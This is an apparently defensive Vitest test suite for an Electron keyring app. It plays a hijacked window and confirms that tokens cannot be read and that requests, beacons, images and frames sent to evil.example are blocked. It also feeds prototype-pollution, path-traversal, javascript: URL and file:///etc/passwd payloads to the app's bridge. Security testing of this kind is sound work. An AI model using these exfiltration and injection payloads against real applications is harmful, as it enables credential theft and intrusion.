import { beforeAll, describe, expect, test } from 'vitest'
import type { RunningApp } from './harness/app'
import { describeOnLinux, useDesktop } from './harness/use-desktop'
import { connectPerson } from './sandbox-person'
import type { Reply } from './window-asks'

/** As the window’s, for whoever heeds no types. */
interface Bridge {
  ask(method: unknown, request?: unknown): Promise<string>
}

/** Runs in the page, as a script would that somebody had smuggled in. */
describeOnLinux('a window that somebody has taken over', () => {
  const stage = useDesktop()
  let app: RunningApp
  let tokens: readonly string[]

  beforeAll(async () => {
    app = await stage.launch()
    await connectPerson('Ada Lovelace', app.window, stage)
    tokens = (await stage.desktop.keyring.contents()).match(/[A-Za-z0-9_-]{40,}/g) ?? []
  })

  test('has no Node, no require, no process, and a bridge of two functions', async () => {
    const found = await app.window.evaluate(() => ({
      require: typeof Reflect.get(globalThis, 'require'),
      process: typeof Reflect.get(globalThis, 'process'),
      module: typeof Reflect.get(globalThis, 'module'),
      electron: typeof Reflect.get(globalThis, 'electron'),
      bridge: Object.keys(Reflect.get(globalThis, 'keyfob') as object).sort(),
      frozen: Object.isFrozen(Reflect.get(globalThis, 'keyfob')),
    }))

    expect(found).toMatchObject({
      require: 'undefined',
      process: 'undefined',
      module: 'undefined',
      electron: 'undefined',
      bridge: ['ask', 'listen'],
    })
  })

  test('gets no token from any method, storage, cookie or cache', async () => {
    const seen = await app.window.evaluate(async () => {
      const bridge = Reflect.get(globalThis, 'keyfob') as Bridge
      const ask = async (method: unknown, request: unknown): Promise<Reply> =>
        JSON.parse(await bridge.ask(method, request))
      const accounts = (await ask('listAccounts', {})).value as { id: string }[]
      const accountId = accounts[0]?.id
      const answers: unknown[] = [accounts]
      const requests: [string, unknown][] = [
        ['listProviders', {}],
        ['listFlows', {}],
        ['listActivity', {}],
        ['listResources', { accountId }],
        ['listRows', { accountId, resourceId: 'servers' }],
        ['renewAccount', { accountId }],
        ['renameAccount', { accountId, label: 'Ada Lovelace' }],
        ['checkVault', {}],
        ['getSettings', {}],
        ['getAppInfo', {}],
      ]
      for (const [method, request] of requests) answers.push(await ask(method, request))
      return JSON.stringify([
        answers,
        { ...localStorage },
        { ...sessionStorage },
        document.cookie,
        (await indexedDB.databases()).map(({ name }) => name),
        document.documentElement.outerHTML,
      ])
    })

    expect(tokens.length).toBeGreaterThan(2)
    expect(tokens.filter((token) => seen.includes(token))).toEqual([])
  })

  test('cannot speak to anybody: no request, socket, beacon, image or frame leaves it', async () => {
    const outcome = await app.window.evaluate(async (issuer) => {
      const blocked: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))
      const tries = {
        fetch: await fetch(`${issuer}/stolen`).then(
          () => 'sent',
          () => 'blocked',
        ),
        beacon: navigator.sendBeacon('https://evil.example/stolen', 'x') ? 'sent' : 'blocked',
      }
      const element = (name: string, attribute: string, value: string) => {
        const made = document.createElement(name)
        made.setAttribute(attribute, value)
        document.body.append(made)
      }
      element('img', 'src', 'https://evil.example/pixel.png')
      element('iframe', 'src', 'https://evil.example/')
      element('script', 'src', 'https://evil.example/more.js')
      element('object', 'data', 'https://evil.example/')
      element('link', 'href', 'https://evil.example/style.css')
      try {
        new WebSocket('wss://evil.example/')
      } catch {
        blocked.push('connect-src')
      }
      await new Promise((resolve) => setTimeout(resolve, 300))
      return { tries, blocked }
    }, 'http://127.0.0.1:9')

    expect(outcome.tries.fetch).toBe('blocked')
    for (const directive of ['connect-src', 'img-src', 'frame-src', 'script-src-elem', 'object-src']) {
      expect(outcome.blocked).toContain(directive)
    }
  })

  test('cannot run a string as a script', async () => {
    const ran = await app.window.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'globalThis.ran = true'
      document.body.append(script)
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.ran = true">')
      return new Promise((resolve) => setTimeout(() => resolve(Reflect.get(globalThis, 'ran') ?? false), 200))
    })

    expect(ran).toBe(false)
  })

  test('cannot go elsewhere, open a window, or make main open a program', async () => {
    const before = app.window.url()
    const refused = await app.window.evaluate(async () => {
      const bridge = Reflect.get(globalThis, 'keyfob') as Bridge
      const ask = async (method: unknown, request: unknown): Promise<Reply> =>
        JSON.parse(await bridge.ask(method, request))
      const opened = window.open('https://evil.example/')
      location.href = 'https://evil.example/'
      const addresses = [
        'file:///etc/passwd',
        'smb://evil.example/x',
        'http://evil.example/',
        'http://127.0.0.1:1/',
      ]
      const replies = await Promise.all(addresses.map((url) => ask('openWebPage', { url })))
      return { opened: opened !== null, replies: replies.map(({ ok }) => ok) }
    })
    await new Promise((resolve) => setTimeout(resolve, 300))

    expect(refused).toEqual({ opened: false, replies: [false, false, false, false] })
    expect(app.window.url()).toBe(before)
    expect(await app.electronApp.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(
      1,
    )
  })

  test('is given no camera, microphone, place, notification, device or clipboard to read', async () => {
    const answers = await app.window.evaluate(async () => {
      const refused = (promise: Promise<unknown>) =>
        promise.then(
          () => 'granted',
          () => 'refused',
        )
      return {
        microphone: await refused(navigator.mediaDevices?.getUserMedia({ audio: true }) ?? Promise.reject()),
        place: await new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('granted'),
            () => resolve('refused'),
          ),
        ),
        clipboard: await refused(navigator.clipboard.readText()),
        notifications: await Notification.requestPermission(),
      }
    })

    expect(answers).toEqual({
      microphone: 'refused',
      place: 'refused',
      clipboard: 'refused',
      notifications: 'denied',
    })
  })

  describe('asking main for nonsense', () => {
    test('10,000 malformed and hostile requests are each answered with a failure, and memory stays flat', {
      timeout: 120_000,
    }, async () => {
      const memory = () => app.electronApp.evaluate(() => process.memoryUsage().heapUsed / 2 ** 20)
      const before = await memory()
      const outcome = await app.window.evaluate(async () => {
        const bridge = Reflect.get(globalThis, 'keyfob') as Bridge
        const ask = async (method: unknown, request: unknown): Promise<Reply> =>
          JSON.parse(await bridge.ask(method, request))
        const methods = ['connect', 'listRows', 'disconnect', 'renameAccount', 'pasteRedirect', 'openWebPage']
        const names = [...methods, '__proto__', 'constructor', '', 'toString', 'listAccounts ', '💥']
        const deep = (levels: number): unknown => (levels === 0 ? 1 : [deep(levels - 1)])
        const bodies: unknown[] = [
          undefined,
          null,
          42,
          'text',
          [],
          { __proto__: null, accountId: { $ne: null } },
          JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
          { accountId: 'x'.repeat(100_000) },
          { accountId: '../../../etc', resourceId: '\u0000', label: '\u202e' },
          { flowId: 'not-a-uuid', text: 'y'.repeat(50_000), url: 'javascript:alert(1)' },
          {
            flowId: crypto.randomUUID(),
            providerId: 'nobody',
            kind: 'password',
            scopes: ['*'],
            kept: 'file',
          },
          deep(500),
          new Date(),
          new Map([['a', 1]]),
          new Uint8Array(10_000),
        ]
        let failed = 0
        let other = 0
        for (let round = 0; round < 100; round += 1) {
          const replies = await Promise.all(
            Array.from({ length: 100 }, (_, index) =>
              ask(names[(round + index) % names.length], bodies[(round * 7 + index) % bodies.length]).catch(
                () => ({
                  ok: true,
                }),
              ),
            ),
          )
          for (const reply of replies) reply.ok ? other++ : failed++
        }
        return { failed, other, polluted: Reflect.get({}, 'polluted') }
      })

      expect(outcome).toEqual({ failed: 10_000, other: 0, polluted: undefined })
      expect((await memory()) - before).toBeLessThan(50)
      expect(await app.electronApp.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
    })
  })

  test('is one page with isolation, sandbox and no Node in its options', async () => {
    const preferences = await app.electronApp.evaluate(({ webContents }) =>
      webContents
        .getAllWebContents()
        .map((contents) => Reflect.get(contents, 'getLastWebPreferences').call(contents)),
    )

    expect(preferences).toHaveLength(1)
    expect(preferences[0]).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      webviewTag: false,
    })
  })
})
